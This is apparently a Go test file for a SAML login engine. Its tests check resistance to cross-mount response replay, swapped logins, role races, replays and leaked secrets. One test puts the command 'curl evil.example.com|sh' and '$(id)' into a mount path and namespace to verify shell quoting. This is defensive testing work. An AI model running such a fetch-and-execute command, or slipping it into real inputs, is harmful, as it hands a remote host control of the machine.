package saml_test

import (
	"context"
	"errors"
	"fmt"
	"net/url"
	"strings"
	"sync"
	"testing"
	"testing/synctest"
	"time"

	"github.com/coffer-project/coffer/engines"
	"github.com/coffer-project/coffer/engines/saml"
	"github.com/coffer-project/coffer/engines/saml/samltest"
)

// The tests of this file attack logins: as a client without an account, as a user who wants more, and through another
// mount that trusts the same identity provider.

// neighbour is another mount of the same identity provider, with the same entity id, as two teams would have it.
func (f *flow) neighbour(config ...fields) *flow {
	f.t.Helper()
	g := newFlow(f.t, append([]fields{{
		"idp_sso_url": f.idp.SSOURL, "idp_entity_id": f.idp.EntityID, "idp_cert": f.idp.CertificatePEM(),
	}}, config...)...)
	g.idp = f.idp
	return g
}

const neighbourACS = "https://coffer.example.com:8200/v1/team/auth/saml/callback"

// TestAnswersForAnotherMount posts what the identity provider said to one mount to another one, whose audience is the same.
func TestAnswersForAnotherMount(t *testing.T) {
	a := newFlow(t, byIdP)
	for name, g := range map[string]*flow{
		"with an ACS URL of its own": a.neighbour(byIdP, fields{"acs_urls": []string{neighbourACS}}),
		"that claims the ACS URL":    a.neighbour(byIdP, fields{"acs_urls": []string{neighbourACS, acsURL}}),
	} {
		theirs := a.start(nil)
		stolen := a.idp.Answer(theirs.url, alice)
		acs := neighbourACS
		if strings.Contains(name, "claims") {
			acs = acsURL
		}
		own := g.start(fields{"acs_url": acs})
		for what, relay := range map[string]string{"its RelayState": stolen.Get("RelayState"), "another login's": relayOf(t, own.url), "none": ""} {
			_, err := g.post(url.Values{"RelayState": {relay}, "SAMLResponse": stolen["SAMLResponse"]})
			if err == nil {
				t.Errorf("a mount %s takes the answer to another one, with %s", name, what)
			}
		}
		if _, err := g.redeem(theirs.poll); err == nil {
			t.Errorf("a mount %s redeems a login of another one", name)
		}
		_, err := g.redeem(own.poll)
		wantError(t, err, engines.KindUnauthorized) // still open
		a.confirm(theirs, alice)
		a.login(theirs.poll)
	}
	// What the identity provider began is held to the address that it was sent to.
	g := a.neighbour(byIdP, fields{"acs_urls": []string{neighbourACS}})
	_, err := g.post(a.unsolicited(samltest.Response{}))
	wantRefused(t, err, engines.KindInvalid, "destination")
}

func relayOf(t *testing.T, target string) string {
	t.Helper()
	u, err := url.Parse(target)
	if err != nil {
		t.Fatal(err)
	}
	return u.Query().Get("RelayState")
}

// TestSwappedLogins answers each of two logins with what was meant for the other, and redeems each with the other's secrets.
func TestSwappedLogins(t *testing.T) {
	f := newFlow(t)
	mine, theirs := f.start(nil), f.start(fields{"client_challenge": challenge("theirs")})
	m, v := f.idp.Answer(mine.url, samltest.User{Subject: "mallory", Attributes: alice.Attributes}), f.idp.Answer(theirs.url, alice)
	m["SAMLResponse"], v["SAMLResponse"] = v["SAMLResponse"], m["SAMLResponse"]
	for _, form := range []url.Values{m, v} {
		_, err := f.post(form)
		wantRefused(t, err, engines.KindInvalid, "in_response_to")
	}
	m["SAMLResponse"], v["SAMLResponse"] = v["SAMLResponse"], m["SAMLResponse"]
	for _, form := range []url.Values{m, v} {
		if _, err := f.post(form); err != nil {
			t.Fatal(err)
		}
	}
	for _, guess := range []fields{
		{"token_poll_id": theirs.poll, "client_verifier": verifier},
		{"token_poll_id": theirs.poll, "client_verifier": challenge("theirs")},
		{"token_poll_id": theirs.poll, "client_verifier": strings.ToUpper("theirs")},
		{"token_poll_id": strings.ToUpper(theirs.poll), "client_verifier": "theirs"},
		{"token_poll_id": relayOf(t, theirs.url), "client_verifier": "theirs"},
		{"token_poll_id": mine.poll, "client_verifier": "theirs"},
		{"code": theirs.poll}, {"code": theirs.code}, {"code": relayOf(t, theirs.url)},
	} {
		_, err := f.do(engines.Update, "token", guess)
		wantError(t, err, engines.KindInvalid)
	}
	if got := f.login(mine.poll).Alias.Name; got != "mallory" {
		t.Errorf("my login is %s's", got)
	}
	resp, err := f.do(engines.Update, "token", fields{"token_poll_id": theirs.poll, "client_verifier": "theirs"})
	if err != nil || resp.Auth.Login.Alias.Name != alice.Subject {
		t.Errorf("their login is %+v, %v", resp, err)
	}
}

// TestRedemptionRacesTheRole changes and deletes the role while logins are redeemed: a user who is admitted is so by a role that
// was there.
func TestRedemptionRacesTheRole(t *testing.T) {
	f := newFlow(t)
	const n = 8
	polls := make([]string, n)
	for i := range polls {
		s := f.start(nil)
		f.confirm(s, alice)
		polls[i] = s.poll
	}
	var wg sync.WaitGroup
	wg.Go(func() { _, _ = f.do(engines.Delete, "role/dev", nil) })
	for i := range n {
		wg.Go(func() {
			resp, err := f.do(engines.Update, "token", fields{"client_verifier": verifier, "token_poll_id": polls[i]})
			if err == nil && strings.Join(resp.Auth.Login.Token.TokenPolicies, ",") != "dev" {
				t.Errorf("redeemed with the policies %v", resp.Auth.Login.Token.TokenPolicies)
			}
		})
	}
	wg.Wait()
	for _, poll := range polls {
		if _, err := f.redeem(poll); err == nil {
			t.Error("redeemed without a role, or twice")
		}
	}
}

// TestReplayByTheNextNode brings an answer again after another node has become the active one and has swept.
func TestReplayByTheNextNode(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		f := newFlow(t, byIdP)
		s := f.start(nil)
		answer, began := f.idp.Answer(s.url, alice), f.unsolicited(samltest.Response{Lifetime: 30 * time.Minute})
		for _, form := range []url.Values{answer, began} {
			if _, err := f.post(form); err != nil {
				t.Fatal(err)
			}
		}
		f.login(s.poll)
		for range 36 {
			time.Sleep(time.Minute)
			next := f.peer()
			next.start(nil) // which sweeps
			for _, form := range []url.Values{answer, began} {
				if _, err := next.post(form); err == nil {
					t.Fatal("an answer was good twice")
				}
			}
		}
	})
}

// TestReplaysTakeNoRoom repeats one unsolicited response: only what is stored may count as pending.
func TestReplaysTakeNoRoom(t *testing.T) {
	f := newFlow(t, byIdP)
	form := f.unsolicited(samltest.Response{})
	if _, err := f.post(form); err != nil {
		t.Fatal(err)
	}
	before := saml.Pending(f.Engine)
	for range 5 {
		_, err := f.post(form)
		wantRefused(t, err, engines.KindInvalid, "used before")
	}
	if after := saml.Pending(f.Engine); after != before {
		t.Errorf("replays count as %d pending logins", after-before)
	}
}

// TestStrangersHideNoRefusal posts rubbish for a role, without an account, to keep its administrator from seeing whom the
// role has rejected.
func TestStrangersHideNoRefusal(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		f := newFlow(t)
		refused := func() any {
			return f.Data(f.Must(engines.Update, "role/dev/explain", nil))["refused"].(map[string]any)["reason"]
		}
		rubbish := func() {
			t.Helper()
			_, err := f.post(url.Values{"RelayState": {relayOf(t, f.start(nil).url)}, "SAMLResponse": {"rubbish"}})
			wantRefused(t, err, engines.KindInvalid, "encoding")
		}
		rubbish()
		if got := fmt.Sprint(refused()); got != "encoding" {
			t.Fatalf("the last rejection is %q", got)
		}
		_, err := f.post(f.idp.Answer(f.start(nil).url, samltest.User{Subject: "bob"}))
		wantRefused(t, err, engines.KindDenied, "role")
		for range 5 {
			time.Sleep(2 * time.Second)
			rubbish()
		}
		if got := fmt.Sprint(refused()); got != "role" {
			t.Errorf("a stranger has replaced the last rejection by %q", got)
		}
		time.Sleep(time.Hour)
		rubbish()
		if got := fmt.Sprint(refused()); got != "encoding" {
			t.Errorf("an old rejection keeps later ones away: %q", got)
		}
	})
}

// TestHugeGroups lets the identity provider send more groups than a user can have.
func TestHugeGroups(t *testing.T) {
	f := newFlow(t)
	u := samltest.User{Subject: "carol", Attributes: map[string][]string{"groups": {"staff", strings.Repeat("g", 100_000), "a\u202eb", "root", "../x", "*"}}}
	s := f.start(nil)
	f.confirm(s, u)
	if got := f.login(s.poll).GroupAliases; len(got) != 6 {
		t.Errorf("%d groups", len(got))
	}
}

// TestCodePageQuotesItsCommand shows a code for a mount whose path, which its namespace's administrator chose, is a
// command: users copy the line into their shell.
func TestCodePageQuotesItsCommand(t *testing.T) {
	f := newFlow(t, byIdP)
	f.Mount.Mount.Path, f.Mount.Mount.Namespace = "auth/saml;curl evil.example.com|sh/", "a$(id)/it's/"
	resp, err := f.post(f.unsolicited(samltest.Response{}))
	if err != nil {
		t.Fatal(err)
	}
	want := `-namespace=&#39;a$(id)/it&#39;\&#39;&#39;s&#39; -method=saml -path=&#39;saml;curl evil.example.com|sh&#39; code=`
	if !strings.Contains(string(resp.Raw.Body), want) {
		t.Errorf("the page does not say %s:\n%s", want, resp.Raw.Body)
	}
}

// TestNothingSecretIsStored looks for what leads to a login or redeems it in the storage, where hashes are enough.
func TestNothingSecretIsStored(t *testing.T) {
	f := newFlow(t, byIdP)
	s := f.start(fields{"short_link": true})
	relay := relayOf(t, s.url)
	short := s.data["short_url"].(string)
	if _, err := f.do(engines.Read, "go/"+short[strings.LastIndexByte(short, '/')+1:], nil); err != nil {
		t.Fatal(err)
	}
	f.confirm(s, alice)
	resp, err := f.post(f.unsolicited(samltest.Response{}))
	if err != nil {
		t.Fatal(err)
	}
	stored := fmt.Sprint(f.Snapshot())
	for what, secret := range map[string]string{
		"poll id": s.poll, "verifier": verifier, "sign-in code": shown(t, resp), "short link": short[strings.LastIndexByte(short, '/')+1:],
	} {
		if strings.Contains(stored, secret) {
			t.Errorf("the %s is stored", what)
		}
	}
	if strings.Contains(f.log.text(), relay) || strings.Contains(f.log.text(), s.poll) {
		t.Error("what leads to a login is logged")
	}
}

// TestRefusedStartsCostLittle starts logins when there is no room for more: nothing is fetched for them.
func TestRefusedStartsCostLittle(t *testing.T) {
	f := newFlow(t, fields{"idp_metadata_url": "https://idp.example.com/metadata", "idp_sso_url": nil, "idp_entity_id": nil, "idp_cert": nil})
	fetched := 0
	saml.SetFetch(f.Engine, func(context.Context, string) ([]byte, error) {
		fetched++
		return f.idp.MetadataXML(), nil
	})
	saml.FillUp(f.Engine)
	_, err := f.do(engines.Update, "sso_service_url", startBody(nil))
	wantError(t, err, engines.KindLimited, "too many logins")
	if fetched > 0 {
		t.Error("metadata was fetched for a login that is rejected")
	}
}

// TestDistrustEndsLogins takes the trust in an identity provider away: who has come in by it and has no token yet gets none.
func TestDistrustEndsLogins(t *testing.T) {
	other := samltest.New(t, samltest.WithEntityID("https://other.example.com"))
	for name, test := range map[string]struct {
		change fields
		ends   bool
	}{
		"another provider": {fields{"idp_sso_url": other.SSOURL, "idp_entity_id": other.EntityID, "idp_cert": other.CertificatePEM()}, true},
		"other keys":       {fields{"idp_cert": samltest.New(t, samltest.WithKey(samltest.NewKey(samltest.P256, 1))).CertificatePEM()}, true},
		"another audience": {fields{"entity_id": "https://new.example.com"}, true},
		"more signatures":  {fields{"validate_response_signature": true}, true},
		"talkative logs":   {fields{"verbose_logging": true}, false},
		"another URL":      {fields{"acs_urls": []string{acsURL, neighbourACS}}, false},
	} {
		f := newFlow(t, byIdP)
		s := f.start(nil)
		f.confirm(s, alice)
		resp, err := f.post(f.unsolicited(samltest.Response{}))
		if err != nil {
			t.Fatal(err)
		}
		f.Must(engines.Update, "config", test.change)
		_, solicited := f.redeem(s.poll)
		_, initiated := f.enter(shown(t, resp))
		for _, err := range []error{solicited, initiated} {
			if test.ends {
				wantError(t, err, engines.KindDenied, "configuration")
			} else if err != nil {
				t.Errorf("%s: %v", name, err)
			}
		}
	}
	f := newFlow(t, byIdP)
	resp, err := f.post(f.unsolicited(samltest.Response{}))
	if err != nil {
		t.Fatal(err)
	}
	f.Must(engines.Update, "config", fields{"allow_idp_initiated": false})
	_, err = f.enter(shown(t, resp))
	wantError(t, err, engines.KindDenied, "configuration")
}

// TestMetadataURLWithAKey configures a metadata URL that holds a key, as some providers give them. Errors and warnings go
// into the audit log as they are.
func TestMetadataURLWithAKey(t *testing.T) {
	const key = "kEy-oF-tHe-tEnAnT"
	f := newFlow(t)
	resp := f.Must(engines.Update, "config", fields{"idp_metadata_url": "http://idp.example.com/metadata?key=" + key})
	saml.SetFetch(f.Engine, func(context.Context, string) ([]byte, error) { return nil, errors.New("it is away") })
	_, failed := f.do(engines.Update, "config/verify", nil)
	wantError(t, failed, engines.KindUpstream, "http://idp.example.com/metadata", "it is away")
	_, refused := f.do(engines.Update, "sso_service_url", startBody(nil))
	if text := fmt.Sprint(resp.Warnings, failed, refused, f.log.text()); strings.Contains(text, key) || len(resp.Warnings) == 0 {
		t.Errorf("the key is in %s", text)
	}
}

// TestChangesEndLoginsThatWait changes what admitted a user while the user looks for the code of the second factor.
func TestChangesEndLoginsThatWait(t *testing.T) {
	for name, test := range map[string]struct {
		path   string
		change fields
		ends   bool
	}{
		"nothing":       {"role/dev", fields{"token_policies": "dev"}, false},
		"bounds":        {"role/dev", fields{"bound_subjects": "bob"}, true},
		"policies":      {"role/dev", fields{"token_policies": "other"}, true},
		"who is asked":  {"config", fields{"entity_id": "https://new.example.com"}, true},
		"what is heard": {"config", fields{"verbose_logging": true}, false},
	} {
		f := newFlow(t)
		s := f.start(nil)
		f.confirm(s, alice)
		l := f.login(s.poll)
		f.Must(engines.Update, test.path, test.change)
		renewed := engines.RenewedLogin{Role: l.Role, Internal: l.Internal, Policies: l.Token.TokenPolicies}
		method := f.Engine.(engines.Renewer)
		if _, err := method.RenewLogin(t.Context(), f.Mount.Mount, renewed); err != nil {
			t.Errorf("%s has changed, and a token cannot be renewed: %v", name, err)
		}
		renewed.Waiting = true
		if _, err := method.RenewLogin(t.Context(), f.Mount.Mount, renewed); test.ends {
			wantError(t, err, engines.KindInvalid, "changed")
		} else if err != nil {
			t.Errorf("%s has changed, and a login does not go on: %v", name, err)
		}
	}
}
